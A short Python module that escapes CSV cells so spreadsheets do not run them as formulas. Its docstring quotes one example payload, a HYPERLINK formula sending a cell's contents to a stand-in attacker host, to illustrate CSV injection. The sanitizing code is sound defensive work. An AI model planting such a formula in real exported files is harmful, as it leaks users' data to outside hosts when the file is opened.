"""Cells of a CSV the Town hands out, safe to open in a spreadsheet (issue 45, item 6d).

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by
Excel, LibreOffice and Google Sheets as a formula (OWASP, "CSV Injection"): a reason typed
as ``=HYPERLINK("http://evil.example/?"&A1, "see")`` would run when the report is opened.
Such a cell is written with a leading apostrophe, which the spreadsheet shows as text; a
plain number ("-3", "12.5") is left a number."""

from __future__ import annotations

import re

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"-?\d+(?:\.\d+)?")


def safe_cell(value) -> str:
    """``value`` as a CSV cell that no spreadsheet reads as a formula."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def safe_row(values) -> list[str]:
    return [safe_cell(v) for v in values]
